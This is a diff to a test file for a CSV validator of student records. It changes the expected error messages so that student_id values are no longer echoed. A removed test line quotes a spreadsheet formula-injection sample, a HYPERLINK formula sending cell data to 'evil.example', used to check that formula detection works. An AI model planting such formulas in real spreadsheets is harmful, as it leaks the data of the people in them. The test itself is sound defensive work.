@@ -1,5 +1,5 @@
 """The bad-input corpus (tests/bad_inputs): each broken file gives its exact problems, exit 2, no traceback, and
-``--out`` is not even created. Awkward but valid encodings load. A 200 MB file is refused before being read.
+``--out`` is not even created. Values of personal columns (``student_id``) are never printed, only their place. Awkward but valid encodings load. A 200 MB file is refused before being read.
 """
 from __future__ import annotations
 
@@ -44,12 +44,12 @@ EXPECTED: dict[str, list[str]] = {
         ".xlsx) from the spreadsheet"],
     "students_duplicate_headers.csv": [
         "students_duplicate_headers.csv, row 1, column student_id: column student_id given twice (columns 1 and 3: "
-        "'student_id' and 'student_id') (value 'student_id'). Fix: keep only one of these columns"],
+        "'student_id' and 'student_id'). Fix: keep only one of these columns"],
     "students_duplicate_ids.csv": [
-        "students_duplicate_ids.csv, row 3, column student_id: duplicate id (same as row 2) (value 'e1'). Fix: give "
-        "every row its own id",
-        "students_duplicate_ids.csv, row 4, column student_id: duplicate id (same as row 2) (value 'E1'). Fix: give "
-        "every row its own id"],
+        "students_duplicate_ids.csv, row 3, column student_id: duplicate id (same as row 2). Fix: give every row its "
+        "own id",
+        "students_duplicate_ids.csv, row 4, column student_id: duplicate id (same as row 2). Fix: give every row its "
+        "own id"],
     "students_nan_inf_huge.csv": [
         "students_nan_inf_huge.csv, row 2, column lat: longitude given without latitude (value '4.85'). Fix: fill "
         "lat too, or empty lon",
@@ -62,8 +62,7 @@ EXPECTED: dict[str, list[str]] = {
         "students_nan_inf_huge.csv, row 6, column lat: coordinates outside France (value '1e+300, 4.85'). Fix: give "
         "WGS84 decimal degrees (lat about 41 to 51 in metropolitan France), or a commune code instead"],
     "students_formulas.csv": [
-        "students_formulas.csv, row 2, column student_id: looks like a spreadsheet formula (value "
-        f"'=HYPERLINK(\"http://evil.example/?x=\"&A1)'). {FIX_FORMULA}",
+        f"students_formulas.csv, row 2, column student_id: looks like a spreadsheet formula. {FIX_FORMULA}",
         f"students_formulas.csv, row 3, column sectors: looks like a spreadsheet formula (value '@SUM(1+1)'). "
         f"{FIX_FORMULA}",
         "students_formulas.csv, row 4: no usable location. Fix: fill commune_insee, postal_code, lycee_uai "
